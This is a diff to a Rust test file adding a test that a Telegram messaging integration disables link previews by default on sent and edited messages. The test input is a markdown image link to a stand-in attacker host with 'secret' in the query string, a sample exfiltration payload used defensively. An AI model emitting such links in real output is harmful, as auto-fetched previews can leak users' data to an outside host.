@@ -94,6 +94,25 @@ async fn a_server_that_is_not_there_has_nothing() {
 }
 
 #[tokio::test]
+async fn telegram_opens_no_link_by_itself_unless_it_is_told_to() {
+    let links = "see ![it](https://evil.example/?q=secret)";
+    let hidden = json!({ "is_disabled": true });
+    for (told, expected) in [(None, &hidden), (Some(false), &Value::Null)] {
+        let vendor = Vendor::open().await;
+        let mut settings = vendor.settings();
+        if let Some(told) = told {
+            settings["disable_link_previews"] = told.into();
+        }
+        let bench = Bench::connect(vendor, settings, None).await;
+        let message = bench.send(&alice(), text(links)).await.unwrap().message.unwrap();
+        assert_eq!(&bench.last("sendMessage")["link_preview_options"], expected);
+        let edit = Act::Edit { message, content: Content::text(links) };
+        bench.send(&alice(), edit).await.unwrap();
+        assert_eq!(&bench.last("editMessageText")["link_preview_options"], expected);
+    }
+}
+
+#[tokio::test]
 async fn files_are_uploaded_with_their_names_and_bytes() {
     let bench = Bench::open().await;
     let content = with_files("**look**", &[("notes.pdf", "application/pdf")]);
